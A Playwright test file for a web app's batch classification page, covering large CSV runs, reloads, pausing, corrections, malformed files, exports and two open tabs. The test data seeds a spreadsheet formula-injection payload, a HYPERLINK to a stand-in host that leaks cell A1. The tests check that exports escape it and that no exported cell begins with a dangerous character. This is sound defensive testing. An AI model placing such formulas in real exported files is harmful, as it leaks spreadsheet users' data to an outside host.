/** The batch page with the real engine: thousands of rows, reload, broken files, corrections, exports, two tabs. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { ROOT } from '../../.ci/project.mjs';
import { expect, test } from './fixture.ts';

const DATA = process.env.FLOTILLA_DATA ?? join(ROOT, '../shared/data');
const FORMULA = '=HYPERLINK("http://127.0.0.2/?"&A1)';

interface Row {
  text: string;
  intent: string;
  note: string;
}

/** Real rows where they are there, else the examples of the fleet with running numbers. */
async function rowsOf(page: Page, count: number): Promise<Row[]> {
  const file = join(DATA, 'banking77/train.csv');
  if (existsSync(file)) {
    const { data } = Papa.parse<{ text: string; label: string }>(readFileSync(file, 'utf8'), {
      header: true,
      skipEmptyLines: true,
    });
    return data.slice(0, count).map(({ text, label }, i) => ({
      text,
      intent: label,
      note: i % 100 === 0 ? FORMULA : `note ${i}`,
    }));
  }
  const examples = await page.evaluate(async () =>
    (await window.flotilla.specialists()).flatMap((card) =>
      card.task === 'classify' ? card.examples : [],
    ),
  );
  // Of one line: a document among them would be read, not sorted, and bring its fields as columns.
  const texts = examples.filter((text) => !text.includes('\n'));
  return Array.from({ length: count }, (_, i) => ({
    text: `${texts[i % texts.length] ?? 'hello'} (${i})`,
    intent: '',
    note: i % 100 === 0 ? FORMULA : `note ${i}`,
  }));
}

/** By path: a buffer would be decoded on the page's thread and counted as a long task of the page. */
async function drop(page: Page, name: string, content: string | Buffer): Promise<void> {
  const path = test.info().outputPath(name);
  writeFileSync(path, content);
  await page.locator('#main input[type=file]').first().setInputFiles(path);
}

async function start(page: Page, rows: Row[], name = 'tickets.csv'): Promise<void> {
  await drop(page, name, Papa.unparse(rows, { newline: '\r\n' }));
  await page.getByRole('button', { name: /^Answer [\d,]+ rows$/ }).click();
  await expect(page).toHaveURL(/#\/batch\/.+/);
}

const panel = (page: Page) => page.getByRole('region', { name: 'Progress of the batch' });

async function doneRows(page: Page): Promise<number> {
  const words = await panel(page).locator('progress').getAttribute('aria-valuetext');
  return Number(/^([\d,]+) of/.exec(words ?? '')?.[1]?.replaceAll(',', '') ?? -1);
}

async function exported(page: Page, format: 'CSV' | 'JSONL'): Promise<string> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: `Export ${format}` }).click(),
  ]);
  const path = test.info().outputPath(`export.${format}`);
  await file.saveAs(path);
  return readFileSync(path, 'utf8');
}

test.beforeEach(async ({ page, site }) => {
  page.setDefaultTimeout(30_000);
  await page.addInitScript(() => {
    const longTasks: number[] = [];
    Object.assign(window, { longTasks });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) longTasks.push(Math.round(entry.duration));
    }).observe({ type: 'longtask' });
  });
  await page.goto(`${site.url}#/batch`);
  await expect(page.getByText('Drop a table, files or a folder')).toBeVisible();
});

test('the first visit: the examples of the fleet go through as a batch', async ({ page }) => {
  await page.getByRole('button', { name: /^Try \d+ example requests$/ }).click();
  await page.getByRole('button', { name: /^Answer \d+ rows$/ }).click();
  await expect(page.getByText('All rows answered')).toBeVisible();
  await expect(page.getByRole('row').filter({ hasText: 'Card arrival' })).toBeVisible();
});

test('two thousand rows go through, are filtered, and come out again', async ({ page }) => {
  test.setTimeout(400_000);
  const rows = await rowsOf(page, 2000);
  await page.evaluate(() => ((window as unknown as { longTasks: number[] }).longTasks.length = 0));
  const startedAt = Date.now();
  await start(page, rows);
  await expect(page.getByText('All rows answered')).toBeVisible({ timeout: 340_000 });
  const seconds = (Date.now() - startedAt) / 1000;
  const longTasks = await page.evaluate(
    () => (window as unknown as { longTasks: number[] }).longTasks,
  );
  const words = (await panel(page).innerText()).replaceAll(/\s+/g, ' ');
  const figure = `${rows.length} rows in ${seconds.toFixed(1)} s (${(rows.length / seconds).toFixed(0)} rows/s); tasks over 50 ms on the page: ${JSON.stringify(longTasks)}; ${words}`;
  test.info().annotations.push({ type: 'figure', description: figure });
  console.log(figure);

  await expect(page.getByText('2,000 rows shown')).toBeVisible();
  expect(await page.getByRole('row').count()).toBeLessThan(100);
  await page.getByLabel('Sort by').selectOption('confidence');
  const sure = page.getByRole('row').nth(1).getByRole('cell');
  await expect(sure.first()).not.toHaveText('');
  await page.getByRole('combobox', { name: 'Show', exact: true }).selectOption('needs_review');
  await expect(page.getByText('2,000 rows shown')).toBeHidden();

  const csv = await exported(page, 'CSV');
  const table = Papa.parse<Record<string, string>>(csv.replace('\uFEFF', ''), {
    header: true,
    skipEmptyLines: true,
  });
  expect(table.errors).toEqual([]);
  expect(table.data).toHaveLength(rows.length);
  expect(table.meta.fields).toEqual([
    'text',
    'intent',
    'note',
    'label',
    'corrected_label',
    'confidence',
    'status',
    'specialist',
    'tier',
    'reason',
  ]);
  expect(table.data.map((row) => row.intent)).toEqual(rows.map((row) => row.intent));
  expect(table.data[0]?.note).toBe(`'${FORMULA}`);
  // One expectation for all rows: thousands of them would each be a step of the report.
  const bad = table.data.filter(
    (row) =>
      !['accepted', 'needs_review', 'refused'].includes(row.status ?? '') ||
      !(Number(row.confidence) >= 0 && Number(row.confidence) <= 1) ||
      Object.values(row).some((cell) => /^[=@\t\r]/.test(cell)),
  );
  expect(bad).toEqual([]);
});

test('a reload in the middle goes on where it stopped, in the order of the file', async ({
  page,
}) => {
  test.setTimeout(400_000);
  const rows = await rowsOf(page, 800);
  await start(page, rows);
  await expect.poll(() => doneRows(page), { timeout: 120_000 }).toBeGreaterThan(0);
  const before = await doneRows(page);
  await page.reload();
  await expect(page.getByRole('button', { name: /Go on|Export CSV/ }).first()).toBeVisible();
  expect(await doneRows(page)).toBeGreaterThanOrEqual(before);
  if (before < rows.length) await page.getByRole('button', { name: 'Go on' }).click();
  await expect(page.getByText('All rows answered')).toBeVisible({ timeout: 240_000 });

  const lines = (await exported(page, 'JSONL')).trimEnd().split('\n');
  const answered = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(answered.map((row) => row.text)).toEqual(
    rows.map((row) => row.text.replaceAll(/\r\n?/g, '\n')),
  );
  expect(answered.filter((row) => row.status === null)).toEqual([]);

  // The same text has the same answer, whichever run it was answered in.
  const probes = [0, 400, 799].map((i) => ({
    i,
    text: rows[i]?.text.replaceAll(/\r\n?/g, '\n') ?? '',
  }));
  for (const { i, text } of probes) {
    const alone = await page.evaluate(async (words) => {
      const answer = await window.flotilla.run({ text: words });
      return {
        label: (answer.output as { label: string | null } | null)?.label ?? null,
        status: answer.status,
      };
    }, text);
    expect(answered[i]).toMatchObject(alone);
  }
});

test('pause keeps the answers, and an earlier batch can be deleted', async ({ page }) => {
  test.setTimeout(300_000);
  await start(page, await rowsOf(page, 5000), 'pause.csv');
  await page.getByRole('button', { name: 'Pause' }).click();
  await expect(page.getByRole('button', { name: /^(Go on|Start)$/ })).toBeVisible({
    timeout: 60_000,
  });
  await page.getByRole('link', { name: 'All batches' }).click();
  await page.getByRole('button', { name: 'Delete pause.csv' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await expect(page.getByRole('link', { name: 'pause.csv' })).toBeHidden();
});

test('a corrected row is kept as a label and exported', async ({ page }) => {
  test.setTimeout(200_000);
  await drop(
    page,
    'two.csv',
    'text,intent\nmy new card has not arrived yet,card_arrival\nI lost my card in the street,lost_or_stolen_card\n',
  );
  await page.getByLabel('Specialist').selectOption('banking-tickets');
  await page.getByRole('button', { name: 'Answer 2 rows' }).click();
  await expect(page.getByText('All rows answered')).toBeVisible({ timeout: 120_000 });
  await page.getByRole('button', { name: 'Correct row 2' }).click();
  await page.getByRole('combobox', { name: 'Right label' }).fill('compromised');
  await page.keyboard.press('Enter');
  await expect(page.getByText('(corrected)')).toBeVisible();
  const corrections = await page.evaluate(
    async () =>
      await (
        window.flotilla as unknown as { corrections(): Promise<{ text: string; label: string }[]> }
      ).corrections(),
  );
  expect(corrections).toContainEqual(
    expect.objectContaining({ text: 'I lost my card in the street', label: 'compromised_card' }),
  );
  await page.reload();
  await expect(page.getByText('(corrected)')).toBeVisible();
  expect(await exported(page, 'CSV')).toContain('compromised_card');
});

test('a file chosen before a reload is still chosen after it', async ({ page }) => {
  await drop(
    page,
    'draft.csv',
    'id,body,kind\n1,a first longer text,x\n2,a second longer text,y\n',
  );
  await page.getByLabel('Label to compare with').selectOption('kind');
  await page.getByLabel('Column with the text').selectOption('body');
  await page.reload();
  await expect(page.getByRole('heading', { name: 'draft.csv' })).toBeVisible();
  await expect(page.getByLabel('Label to compare with')).toHaveValue('2');
});

const BROKEN: [name: string, content: string | Buffer, code: string, words: string][] = [
  ['quotes.csv', 'text,label\na,b\n"open,c\nd,e\n', 'bad_csv', 'Row 3 opens a quote'],
  ['cells.csv', 'text,label\na,b\none, two,c\n', 'bad_csv', 'Row 3 has 3 cells'],
  ['none.csv', 'text,label\n', 'empty_input', 'no rows'],
  ['numbers.csv', '1,2\n3,4\n', 'bad_csv', 'no header'],
  ['book.csv', Buffer.from([0x50, 0x4b, 3, 4, 0, 0]), 'unsupported_input', 'Excel'],
  ['lines.jsonl', '{"text":"a"}\n{"text"\n', 'bad_csv', 'Line 2'],
];

test('broken files are refused with the row and the next step', async ({ page }) => {
  for (const [name, content, code, words] of BROKEN) {
    await drop(page, name, content);
    const note = page.getByRole('alert');
    await expect(note, name).toContainText(words);
    await expect(note, name).toContainText(code);
  }
  await drop(page, 'latin.csv', Buffer.from('text,label\ncaf\xe9,drink\n', 'latin1'));
  await expect(page.getByText('not UTF-8')).toBeVisible();
  await expect(page.getByRole('cell', { name: 'café' })).toBeVisible();
});

test('a million and one rows are refused', async ({ page }) => {
  await drop(page, 'many.csv', `text\n${'x\n'.repeat(1_000_001)}`);
  await expect(page.getByRole('alert')).toContainText('too_many_rows', { timeout: 60_000 });
});

test('two tabs: only one runs a batch', async ({ page, context }) => {
  test.setTimeout(300_000);
  await start(page, await rowsOf(page, 6000), 'shared.csv');
  await expect.poll(() => doneRows(page), { timeout: 120_000 }).toBeGreaterThan(0);
  const second = await context.newPage();
  await second.goto(page.url());
  await second.getByRole('button', { name: /Go on|Start/ }).click();
  await expect(second.getByText('runs in another tab')).toBeVisible();
  await page.getByRole('button', { name: 'Pause' }).click();
  await expect(page.getByRole('button', { name: 'Go on' })).toBeVisible({ timeout: 60_000 });
  await second.getByRole('button', { name: /Go on|Start/ }).click();
  await expect(second.getByRole('button', { name: 'Pause' })).toBeVisible();
  const paused = await doneRows(page);
  await expect.poll(() => doneRows(second)).toBeGreaterThanOrEqual(paused);
});
